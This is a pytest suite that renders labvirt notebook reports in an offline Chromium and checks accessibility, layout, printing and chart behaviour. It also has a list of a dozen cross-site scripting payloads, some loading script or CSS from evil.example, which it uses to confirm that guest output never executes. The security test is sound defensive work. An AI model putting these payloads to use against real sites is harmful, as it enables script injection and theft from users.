"""The report in a real browser without network: drawn, reachable, readable, printable, harmless."""

from __future__ import annotations

import json
import os
import shutil

import pandas as pd
import plotly.graph_objects as go
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from labvirt.runbook.report import write_html

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="no chromium (Debian package chromium)"),
    pytest.mark.timeout(240),
]

PLOTLY = "application/vnd.plotly.v1+json"
STEPS = [
    {"id": "define", "title": "Define the domain", "verdict": "kept", "seconds": 0.02},
    {"id": "boot", "title": "Boot it", "verdict": "ok", "seconds": 75},
    {"id": "agent", "title": "Wait for the agent", "verdict": "failed", "error": "waited 5 s"},
    {"id": "finish", "title": "Finish", "verdict": "pending"},
]
COLOURS = "".join(
    f"\x1b[{bold}{code}mcolour {code}\x1b[0m "
    for code in (*range(30, 38), *range(40, 48))
    for bold in ("", "1;")
)
HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 2'>",
    "<img alt='x><script>window.hacked = 3</script>' src=https://evil.example/x>",
    "<svg><style><img src=x onerror='window.hacked = 4'></style></svg>",
    "<svg onload='window.hacked = 5'><script>window.hacked = 5</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror='window.hacked = 6'></style></math>",
    "<details open ontoggle='window.hacked = 7'>x</details>",
    "<iframe srcdoc='<script>parent.hacked = 8</script>'></iframe>",
    "<svg aria-label='\"><img src=x onerror=window.hacked=9>'></svg>",
    "</div></main><script src=https://evil.example/x.js></script>",
    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=https://evil.example/y>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=10>'></noscript>",
]


def chart(title="Load"):
    figure = go.Figure(layout_title_text=title)
    figure.add_scatter(x=list(range(100)), y=[n % 7 for n in range(100)], name="cpu")
    return new_output("display_data", data={PLOTLY: json.loads(figure.to_json())})


def rich(html, **more):
    return new_output("display_data", data={"text/html": html, **more})


def cell(source, *outputs, tags=(), **facts):
    made = new_code_cell(source, outputs=list(outputs), execution_count=1)
    made.metadata.update({"tags": list(tags), "labvirt": facts})
    return made


def full_book(outcome="failed"):
    """Return a book with one of everything."""
    wide = pd.DataFrame([[n / 7 for n in range(30)]] * 5)
    log = "".join(f"[{n:5}] {'a long line of the console ' * 6}\n" for n in range(200))
    error = new_output(
        "error",
        ename="WaitTimeoutError",
        evalue="waited 5 s",
        traceback=["\x1b[31mWaitTimeoutError\x1b[39m: waited", f"\x1b[43m{'x' * 300}\x1b[0m"],
    )
    cells = [
        new_markdown_cell(
            "# Install\n\nText with [a link](https://libvirt.org) and `code`.\n\n> note"
        ),
        cell("name: str = 'web1'", tags=["parameters"], role="parameters", verdict="ok"),
        new_markdown_cell("## Define the domain"),
        cell("define()", rich(wide._repr_html_()), step="define", role="step", verdict="kept"),
        cell(
            "# c\nx = f'{1!r}'\nclass A: pass\n@d\ndef f(): return None",
            step="define",
            role="check",
        ),
        cell(
            "boot()",
            new_output("stream", name="stdout", text=log),
            new_output("stream", name="stdout", text=COLOURS),
            new_output("stream", name="stderr", text="slow\n"),
            chart(),
            rich("<p style='background-color:#fff0f0;color:#700'>red</p><h5>deep</h5>"),
            step="boot",
            role="step",
            verdict="ok",
            seconds=75,
        ),
        cell("agent()", error, step="agent", role="step", verdict="failed", seconds=5),
        cell("undefine()", tags=["undo"], step="define", role="undo"),
    ]
    record = {
        "outcome": outcome,
        "id": "20261123-122015-f700",
        "error": "WaitTimeoutError: waited 5 s",
        "parameters": {"name": "web1", "kernel_args": "console=ttyS0 " * 20},
        "versions": {"python": "3.11"},
        "seconds": 80,
        "steps": STEPS,
    }
    return new_notebook(cells=cells, metadata={"labvirt": record})


@pytest.fixture(scope="module")
def chromium():
    from playwright.sync_api import sync_playwright

    arguments = ["--disable-gpu", "--disable-background-networking", "--no-first-run"]
    if os.geteuid() == 0:
        arguments.append("--no-sandbox")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield browser
        browser.close()


@pytest.fixture
def view(chromium, tmp_path, request):
    """Open a notebook's report without network; afterwards nothing was asked of the network."""
    opened = []

    def look(notebook, scheme="light", width=1280, **options):
        report = write_html(notebook, tmp_path / "book.html")
        context = chromium.new_context(
            offline=True, color_scheme=scheme, viewport={"width": width, "height": 900}, **options
        )
        page = context.new_page()
        page.set_default_timeout(60_000)
        page.asked, page.trouble = [], []
        page.on("request", lambda asked: page.asked.append(asked.url))
        page.on("pageerror", lambda error: page.trouble.append(str(error)))
        page.on("dialog", lambda dialog: page.trouble.append(dialog.message))
        page.goto(report.path.as_uri())
        page.wait_for_selector("html:not([data-charts=loading])", state="attached")
        opened.append((context, page))
        return page

    yield look
    for number, (context, page) in enumerate(opened):
        if page.url.endswith("book.html"):
            page.screenshot(
                path=tmp_path / f"{request.node.name[:40]}-{number}.png", full_page=True
            )
        assert [url for url in page.asked if not url.startswith(("file:", "blob:", "data:"))] == []
        assert page.trouble == []
        context.close()


def violations(page):
    from axe_playwright_python.sync_playwright import Axe

    found = Axe().run(page).response["violations"]
    return [
        (one["id"], one["help"], [node["html"][:200] for node in one["nodes"]]) for one in found
    ]


@pytest.mark.parametrize(
    ("outcome", "scheme"),
    [
        ("failed", "light"),
        ("ok", "dark"),
        pytest.param("failed", "dark", marks=pytest.mark.slow(seconds=4)),
        pytest.param("cancelled", "light", marks=pytest.mark.slow(seconds=4)),
    ],
)
def test_axe_finds_nothing_wrong(view, outcome, scheme):
    page = view(full_book(outcome), scheme)
    page.get_by_role("button", name="Show all code").click()
    assert violations(page) == []


@pytest.mark.parametrize("width", [1280, 360])
def test_nothing_sticks_out_of_the_page(view, width):
    page = view(full_book(), width=width)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert violations(page) == []


def test_an_empty_notebook_is_a_page_too(view):
    page = view(new_notebook())
    assert page.get_by_text("The notebook is empty").is_visible()
    assert violations(page) == []


@pytest.mark.slow(seconds=5)
def test_twenty_charts_are_drawn_and_live_with_one_library(view):
    book = new_notebook(cells=[cell("fig", chart(f"Load {n}")) for n in range(20)])
    page = view(book)
    assert page.evaluate("document.documentElement.dataset.charts") == "drawn"
    assert page.locator(".js-plotly-plot .main-svg").count() >= 20
    assert page.locator("#plotly-library").count() == 1
    assert page.locator(".static:visible").count() == 0
    assert page.evaluate("document.querySelector('.js-plotly-plot').data[0].y.length") == 100
    box = page.locator(".js-plotly-plot .nsewdrag").first.bounding_box()
    for step in range(5):
        page.mouse.move(box["x"] + 100 + 10 * step, box["y"] + box["height"] / 2)
        page.wait_for_timeout(100)
    page.wait_for_selector(".hoverlayer .hovertext", state="attached")
    assert page.get_by_text("Share", exact=False).count() == 0
    assert violations(page) == []


def test_charts_follow_the_theme(view):
    page = view(new_notebook(cells=[cell("fig", chart())]))
    paper = "document.querySelector('.js-plotly-plot')._fullLayout.paper_bgcolor"
    assert page.evaluate(paper) == "white"
    page.emulate_media(color_scheme="dark")
    page.wait_for_timeout(500)
    assert page.evaluate(paper) == "#12161c"


def test_a_picture_that_is_not_in_a_chart_is_not_fetched(view):
    figure = {
        "data": [{"type": "scatter", "y": [1]}],
        "layout": {"images": [{"source": "https://evil.example/x.png"}]},
    }
    page = view(
        new_notebook(cells=[cell("fig", new_output("display_data", data={PLOTLY: figure}))])
    )
    assert page.locator(".js-plotly-plot .main-svg").count()


def test_the_keyboard_reaches_code_links_and_wide_tables(view):
    page = view(full_book())
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    reached = set()
    for _ in range(60):
        reached.add(
            page.evaluate("document.activeElement.tagName + '.' + document.activeElement.className")
        )
        page.keyboard.press("Tab")
    assert {"SUMMARY.", "A."} <= reached
    assert any(one.startswith("DIV.scroll rich") for one in reached), reached
    page.locator("details.code > summary").first.focus()
    page.keyboard.press("Enter")
    assert page.locator("details.code[open]").count() == 2


def test_a_link_of_the_contents_leads_to_its_step(view):
    page = view(full_book())
    page.get_by_role("link", name="Wait for the agent").click()
    assert page.evaluate("location.hash") == "#step-agent"
    top = page.evaluate("document.getElementById('step-agent').getBoundingClientRect().top")
    assert -5 <= top <= 900


def test_the_whole_of_a_long_text_is_one_click_away(view):
    page = view(full_book())
    page.get_by_role("link", name="outputs/cell6-1.txt").click()
    assert "[  199]" in page.inner_text("body")


@pytest.mark.slow(seconds=4)
def test_on_paper_everything_is_unfolded_and_light(view, tmp_path):
    page = view(full_book(), "dark")
    drawn = page.evaluate(
        "() => { dispatchEvent(new Event('beforeprint'));"
        " const colour = document.querySelector('.main-svg').style.background;"
        " dispatchEvent(new Event('afterprint')); return colour; }"
    )
    assert drawn in ("white", "rgb(255, 255, 255)")
    page.pdf(path=tmp_path / "book.pdf")
    assert page.locator("details:not([open])").count() > 3
    page.emulate_media(media="print")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    heights = page.evaluate(
        "[...document.querySelectorAll('details.code')].map(one => one.getBoundingClientRect().height)"
    )
    assert min(heights) > 40
    assert not page.locator(".bar").is_visible()
    assert (tmp_path / "book.pdf").stat().st_size > 10_000


def test_without_scripts_all_but_the_drawing_is_there(view):
    page = view(full_book(), java_script_enabled=False)
    assert page.get_by_text("waited 5 s").first.is_visible()
    assert page.get_by_text("Load: 1 series: cpu").is_visible()
    page.locator("details.code > summary").first.click()
    assert page.locator("details.code pre").first.is_visible()


@pytest.mark.parametrize(
    "mime", ["text/html", "text/markdown", "image/svg+xml", "stream", "prose", "chart"]
)
def test_nothing_that_a_guest_printed_runs(view, mime):
    cells = []
    for bad in HOSTILE:
        if mime == "stream":
            cells.append(cell("1", new_output("stream", name="stdout", text=bad)))
        elif mime == "prose":
            cells.append(new_markdown_cell(bad))
        elif mime == "chart":
            figure = {
                "data": [{"name": bad, "y": [1], "text": [bad]}],
                "layout": {"title": {"text": bad}},
            }
            cells.append(cell("1", rich(bad, **{PLOTLY: figure})))
        else:
            cells.append(cell("1", new_output("display_data", data={mime: bad})))
    page = view(new_notebook(cells=cells))
    page.wait_for_timeout(200)
    assert page.evaluate("window.hacked ?? null") is None
